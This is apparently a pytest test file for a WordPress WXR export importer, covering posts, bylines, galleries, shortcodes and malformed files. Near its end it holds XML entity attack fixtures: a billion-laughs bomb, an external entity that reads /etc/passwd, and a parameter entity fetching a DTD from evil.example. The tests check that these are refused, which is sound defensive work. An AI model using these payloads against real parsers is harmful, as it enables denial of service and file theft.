"""WordPress WXR exports: WordPress's own importer and theme test files, plus attacks. No database."""

import tracemalloc
from datetime import UTC, datetime

import pytest

from articles.importers import wordpress, wxr
from articles.importers.records import ArticleRecord, BadItem, Recovered, Skipped, SourceError
from tests.conftest import SHARED_FIXTURES

FIXTURES = SHARED_FIXTURES
USES_SHARED_FIXTURES = True
WXR = FIXTURES / "real" / "wxr"


def parse(name: str) -> list:
    path = WXR / name
    return list(wxr.parse(path.read_bytes(), name=path.name))


def stories(name: str) -> list[ArticleRecord]:
    return [item for item in parse(name) if isinstance(item, ArticleRecord)]


def test_valid_wxr_1_1_post_keyed_on_site_url_and_post_id():
    items = parse("valid-wxr-1.1.xml")
    post = items[0]
    assert post.external_id == "http://localhost/?p=1"
    assert post.headline == "Hello world!"
    assert post.status == "published"
    assert post.published_at == datetime(2010, 10, 16, 20, 53, 18, tzinfo=UTC)
    assert [b.name for b in post.bylines] == ["John Doe"]  # dc:creator login -> wp:author display name
    assert (post.section, post.section_slug) == ("alpha", "alpha")
    assert post.tags == ["Clippable"]
    assert post.slug == "hello-world"
    assert isinstance(items[1], Skipped) and "page" in items[1].reason


def test_only_posts_are_stories_and_statuses_map():
    items = parse("small-export.xml")
    posts = [i for i in items if isinstance(i, ArticleRecord)]
    pages = [i for i in items if isinstance(i, Skipped)]
    assert len(posts) == 6 and len(pages) == 5
    status = {p.headline: p.status for p in posts}
    assert status["Private Post"] == "draft"
    assert status["Hello world!"] == "published"


def test_first_category_is_the_section_and_post_tags_are_tags():
    many = next(p for p in stories("small-export.xml") if p.headline == "Many Categories")
    assert many.section == "alpha"
    assert "远征手记" in many.tags and "BETA" in many.tags
    private = next(p for p in stories("small-export.xml") if p.headline == "Private Post")
    assert private.tags == ["Tag1", "Tag2", "Tag3"]


def test_https_namespace_of_wordpress_com_exports_is_read():
    posts = stories("theme-preview.xml")  # xmlns:wp="https://wordpress.org/export/1.2/"
    assert len(posts) == 7
    assert posts[0].headline == "Worth A Thousand Words"
    assert posts[0].external_id == "http://wp-themes.com/?p=19"  # no wp:post_id: the guid


def test_namespace_prefix_rebound_elsewhere_is_not_wordpress():
    items = parse("namespace-edge-cases.xml")
    by_title = {getattr(i, "headline", None) or i.where: i for i in items}
    assert by_title["No Prefix"].external_id.endswith("?p=2")  # default-namespace post_id still counts
    assert by_title["Mixed Namespaces"].external_id.endswith("?p=1")
    hijacked = next(i for i in items if isinstance(i, BadItem))
    assert "Hijacked Namespace" in hijacked.where and "post_id" in hijacked.error


def test_display_names_excerpt_and_comments_do_not_leak():
    post = stories("e2e/wxr-comprehensive.xml")[0]
    assert [b.name for b in post.bylines] == ["Alice"]
    assert post.dek == "An excerpt for comprehensive post"
    assert post.section == "News"
    assert "comment" not in post.body.lower() or "Includes categories, tags and a comment." in post.body


def test_author_logins_with_trailing_newlines_are_trimmed():
    post = stories("authors-multiline.xml")[0]
    assert [b.name for b in post.bylines] == ["alice"]


def test_blank_lines_make_paragraphs():
    assert stories("blank-lines.xml")[0].body == "<p>first paragraph</p>\n<p>second paragraph</p>"


def test_split_cdata_sections_are_joined():
    post = stories("crazy-cdata-escaped.xml")[0]
    assert "Content with nested <![CDATA[ tags ]]> :)" in post.body


def test_a_cdata_section_holding_its_own_end_is_read_as_wordpress_reads_it_and_said():
    # Malformed XML that WordPress's importer reads (with its regular-expression parser; its test expects
    # this text and these custom fields): each section runs to the "]]>" before its end tag.
    found = parse("crazy-cdata.xml")
    notes = [item.message for item in found if isinstance(item, Recovered)]
    assert notes == [
        '4 "]]>" inside CDATA sections (the first on line 18) read as WordPress\'s importer reads them: '
        "as part of the text"
    ]
    (post,) = [item for item in found if isinstance(item, ArticleRecord)]
    assert "Content with nested <![CDATA[ tags ]]> :)" in post.body


def test_drafts_without_a_gmt_date_get_no_date():
    post = stories("missing-tags.xml")[0]
    assert post.published_at is None and post.bylines == []


def test_featured_image_comes_from_the_thumbnail_attachment():
    post = next(p for p in stories("themeunittestdata.wordpress.xml") if p.external_id.endswith("?p=1011"))
    assert post.lead_photo is not None
    assert post.lead_photo.url.endswith("featured-image-horizontal.jpg")
    assert post.lead_photo.file.endswith("featured-image-horizontal.jpg")


def test_theme_unit_test_data_posts_only_with_shortcode_warnings():
    items = parse("themeunittestdata.wordpress.xml")
    posts = [i for i in items if isinstance(i, ArticleRecord)]
    assert len(posts) == 58
    assert not [i for i in items if isinstance(i, BadItem)]
    gallery = next(p for p in posts if p.headline == "Post Format: Gallery")
    assert "[gallery" not in gallery.body and "data-gallery" in gallery.body
    audio = next(p for p in posts if p.headline == "Post Format: Audio")
    assert any("removed shortcodes: audio" in w for w in audio.warnings)
    untitled = next(p for p in posts if p.external_id.endswith("?p=1169"))
    # WordPress publishes an untitled post ("it still must link to the single post view"): so do we, warned
    assert untitled.status == "published" and untitled.headline


THEME_GALLERY = (
    "611 616 617 754 755 756 757 758 759 760 761 762 764 765 766 767 768 769 770 771 807 1687 1691"
)


def test_gallery_shortcodes_show_the_exports_attachments_in_wordpress_order():
    posts = {p.external_id.rsplit("=", 1)[1]: p for p in stories("themeunittestdata.wordpress.xml")}
    formats = posts["555"]  # ten [gallery] without ids: the post's 23 attached pictures, menu order then id
    assert formats.body.count(f'<figure data-gallery="{THEME_GALLERY}"></figure>') == 10
    assert "[gallery" not in formats.body and not any("gallery" in w for w in formats.warnings)
    assert list(formats.body_photos) == THEME_GALLERY.split()
    bridge = formats.body_photos["755"]
    assert (bridge.caption, bridge.file, bridge.label) == (
        "Golden Gate Bridge",
        "2008/06/100_5540.jpg",
        "attachment 755",
    )
    assert bridge.source_id == "https://wpthemetestdata.wordpress.com:755"  # the featured images' key
    tiled = posts["1031"]  # ids="755,757,758,760,766,763" orderby="rand": the order given; 763 is not there
    assert '<figure data-gallery="755 757 758 760 766"></figure>' in tiled.body
    assert tiled.warnings == ["gallery: attachment 763 is not in the export; left out of the story"]
    widgets = posts["1736"]  # block editor: [gallery columns=2 ids="770,771"] in a wp:shortcode block
    assert '<figure data-gallery="770 771"></figure>' in widgets.body


def test_gallery_shortcode_attributes_and_pictures_that_cannot_be_shown():
    def attachment(pk, file, parent=7, order=0):
        return f"""<item><title>f{pk}</title><wp:post_id>{pk}</wp:post_id>
<wp:post_type>attachment</wp:post_type><wp:post_parent>{parent}</wp:post_parent><wp:menu_order>{order}</wp:menu_order>
<wp:attachment_url>https://paper.example/wp-content/uploads/{file}</wp:attachment_url></item>"""

    content = (
        '[gallery ids="12, 11,99,13,11"]\n\n[gallery order="DESC" exclude="14"]\n\n'
        '[gallery include="13"]\n\n[gallery id="8" columns="2"]'
    )
    data = f"""<?xml version="1.0"?>
<rss xmlns:wp="https://wordpress.org/export/1.2/" xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><link>https://paper.example</link><wp:wxr_version>1.2</wp:wxr_version>
<item><title>Pictures</title><wp:post_id>7</wp:post_id><wp:post_type>post</wp:post_type>
<wp:status>publish</wp:status><content:encoded><![CDATA[{content}]]></content:encoded></item>
{attachment(11, "2024/01/b.jpg", order=2)}{attachment(12, "2024/01/a.png", order=1)}
{attachment(13, "2024/01/song.mp3")}{attachment(14, "2024/01/c.jpg", order=1)}
{attachment(15, "2024/01/d.webp", parent=0)}
</channel></rss>""".encode()
    post = list(wxr.parse(data, name="g.xml"))[0]
    galleries = post.body.split("\n")
    assert galleries == [
        '<figure data-gallery="12 11"></figure>',  # as given, each once
        '<figure data-gallery="11 12"></figure>',  # attached images (not song.mp3), menu order reversed
    ]
    assert set(post.body_photos) == {"11", "12"} and post.body_photos["12"].file == "2024/01/a.png"
    assert post.warnings == [
        "gallery: attachment 99 is not in the export; left out of the story",
        "gallery: attachment 13 (song.mp3) is not a picture; left out of the story",
        '[gallery include="13"] shows no picture of this export; removed',
        '[gallery id="8" columns="2"] shows no picture of this export; removed',
    ]


def test_caption_shortcode_becomes_figure_with_figcaption():
    html = '[caption id="a" align="alignnone" width="300"]<img src="x.jpg" alt="A"> A boat at dawn[/caption]'
    assert (
        wordpress.captions_to_figures(html)
        == '<figure><img src="x.jpg" alt="A"><figcaption>A boat at dawn</figcaption></figure>'
    )
    old_style = '[caption id="b" caption="Old style"]<img src="y.jpg">[/caption]'
    assert "<figcaption>Old style</figcaption>" in wordpress.captions_to_figures(old_style)


def test_other_shortcodes_are_removed_but_square_brackets_in_prose_stay():
    html, removed = wordpress.remove_shortcodes(
        'Look [gallery ids="1,2"] here [sic] and [embed]https://v.example/1[/embed]'
    )
    assert html == "Look  here [sic] and https://v.example/1"
    assert removed == ["gallery", "embed"]


def test_co_authors_plus_terms_give_bylines_in_order():
    data = b"""<?xml version="1.0"?>
<rss xmlns:wp="https://wordpress.org/export/1.2/" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<link>https://paper.example</link><wp:wxr_version>1.2</wp:wxr_version>
<wp:author><wp:author_login>ann</wp:author_login>
  <wp:author_display_name>Ann Lee</wp:author_display_name></wp:author>
<wp:author><wp:author_login>bob</wp:author_login>
  <wp:author_display_name>Bob Stone</wp:author_display_name></wp:author>
<item><title>Two writers</title><dc:creator>ann</dc:creator><wp:post_id>7</wp:post_id>
<wp:post_type>post</wp:post_type><wp:status>publish</wp:status>
<wp:post_date_gmt>2024-01-07 11:58:00</wp:post_date_gmt>
<content:encoded>Hello</content:encoded>
<category domain="author" nicename="cap-bob"><![CDATA[bob]]></category>
<category domain="author" nicename="cap-ann"><![CDATA[ann]]></category>
</item></channel></rss>"""
    post = list(wxr.parse(data, name="cap.xml"))[0]
    assert [b.name for b in post.bylines] == ["Bob Stone", "Ann Lee"]
    assert post.external_id == "https://paper.example/?p=7"


def test_future_posts_are_published_with_a_future_date_and_trash_is_skipped():
    data = b"""<?xml version="1.0"?><rss xmlns:wp="http://wordpress.org/export/1.1/"><channel>
<wp:wxr_version>1.1</wp:wxr_version><link>https://s.example</link>
<item><title>Later</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type><wp:status>future</wp:status>
<wp:post_date_gmt>2099-01-01 08:00:00</wp:post_date_gmt></item>
<item><title>Gone</title><wp:post_id>2</wp:post_id><wp:post_type>post</wp:post_type><wp:status>trash</wp:status></item>
</channel></rss>"""
    later, gone = list(wxr.parse(data, name="s.xml"))
    assert later.status == "published" and later.published_at.year == 2099
    assert isinstance(gone, Skipped)


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("malformed-simple.xml", "malformed XML: no element found: line 14"),
        ("malformed.xml", "malformed XML: mismatched tag: line 90"),
        ("invalid-version-tag.xml", "unsupported wp:wxr_version 'abc'"),
        ("missing-version-tag.xml", "not a WordPress export"),
    ],
)
def test_broken_exports_are_refused_with_the_file_and_line(name, message):
    with pytest.raises(SourceError, match=f"^{name}: {message}"):
        parse(name)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>&lol3;</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>&secret;</title><wp:post_id>1</wp:post_id></item></channel></rss>"""


PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version></channel></rss>"""
UNPARSED_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!NOTATION gif SYSTEM "image/gif"><!ENTITY logo SYSTEM "logo.gif" NDATA gif>]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version></channel></rss>"""


@pytest.mark.parametrize(
    "data",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, UNPARSED_ENTITY],
    ids=["billion-laughs", "external-entity", "parameter-entity", "unparsed-entity"],
)
def test_entity_attacks_are_refused(data):
    with pytest.raises(SourceError, match="^evil.xml: refused"):
        list(wxr.parse(data, name="evil.xml"))


def outcome(data: bytes, name: str) -> list | str:
    try:
        return [repr(item) for item in wxr.parse(data, name=name)]
    except SourceError as error:
        return f"SourceError: {error}"


ODD_FILES = {
    "blank-line-first": b"\n\n" + BILLION_LAUGHS.split(b"\n", 1)[0] + b"\n<rss><channel></channel></rss>",
    "malformed-late": b'<?xml version="1.0"?><rss><channel><item><title>A</title></item><item></channel>',
    "no-channel": b'<?xml version="1.0"?><rss><other/></rss>',
    "root-channel": b'<?xml version="1.0"?><channel><item><title>A</title></item></channel>',
    "latin-1": '<?xml version="1.0" encoding="ISO-8859-1"?><rss xmlns:wp="http://wordpress.org/export/1.2/">'
    "<channel><item><title>Café</title><wp:post_id>1</wp:post_id><wp:post_type>post</wp:post_type>"
    "</item></channel></rss>".encode("latin-1"),
    "empty": b"",
}


@pytest.mark.parametrize(
    "name", sorted(p.name for p in WXR.glob("*.xml")) + sorted(ODD_FILES), ids=lambda name: name
)
def test_pythons_own_reader_and_defusedxmls_give_the_same_items_and_errors(name, monkeypatch):
    """A file without a DOCTYPE is read by Python's expat reader (its tree built in C), others by
    defusedxml's: the same expat, so the same stories, errors with their lines, and repairs, either way."""
    data = ODD_FILES[name] if name in ODD_FILES else (WXR / name).read_bytes()
    fast = outcome(data, name)
    monkeypatch.setattr(wxr, "_no_doctype", lambda stream: False)  # defusedxml's reader, as before
    assert outcome(data, name) == fast


def test_the_files_wordpress_writes_are_read_without_defusedxmls_python_handlers(monkeypatch):
    def refuse(*args, **kwargs):
        raise AssertionError("defusedxml's reader was used")

    monkeypatch.setattr(wxr, "defused_iterparse", refuse)
    assert len(stories("themeunittestdata.wordpress.xml")) > 50
    assert stories("valid-wxr-1.1.xml")[0].headline == "Hello world!"


@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY, UNPARSED_ENTITY])
def test_a_doctype_never_reaches_pythons_own_reader(data, monkeypatch):
    """Python's reader would expand a declared entity; only files with no DOCTYPE (so no entity) get it."""

    def refuse(*args, **kwargs):
        raise AssertionError("a file with a DOCTYPE reached Python's own reader")

    monkeypatch.setattr(wxr.ElementTree, "iterparse", refuse)
    with pytest.raises(SourceError, match="^evil.xml: refused"):
        list(wxr.parse(data, name="evil.xml"))


def test_an_entity_no_dtd_declares_is_malformed_xml_with_its_line():
    data = b"""<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "rss.dtd">
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>Caf&eacute;</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
    with pytest.raises(SourceError, match=r"^x.xml: malformed XML: undefined entity &eacute;: line 4"):
        list(wxr.parse(data, name="x.xml"))


def test_only_children_of_the_channel_are_read():
    data = b"""<?xml version="1.0"?><rss xmlns:wp="http://wordpress.org/export/1.2/">
<other><item><title>Not a post</title><wp:post_id>9</wp:post_id></item></other>
<channel><wp:wxr_version>1.2</wp:wxr_version><link>https://s.example</link>
<item><title>A post</title><wp:post_id>1</wp:post_id></item></channel></rss>"""
    assert [post.headline for post in wxr.parse(data, name="s.xml")] == ["A post"]


def test_stream_memory_does_not_grow_with_the_export(tmp_path):
    """Items are dropped as soon as they are read: 4 MB of posts never needs 4 MB of memory."""
    body = "<p>" + "word " * 400 + "</p>"
    items = "".join(
        f"<item><title>Post {n}</title><wp:post_id>{n}</wp:post_id><wp:post_type>post</wp:post_type>"
        f"<content:encoded><![CDATA[{body}]]></content:encoded></item>"
        for n in range(1, 2001)
    )
    path = tmp_path / "many.xml"
    path.write_text(
        '<rss xmlns:wp="http://wordpress.org/export/1.2/" xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        f"<channel><wp:wxr_version>1.2</wp:wxr_version>{items}</channel></rss>"
    )
    assert path.stat().st_size > 4_000_000
    tracemalloc.start()
    with path.open("rb") as stream:
        count = sum(1 for _ in wxr.parse(stream, name="many.xml"))
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert count == 2000
    assert peak < 1_000_000
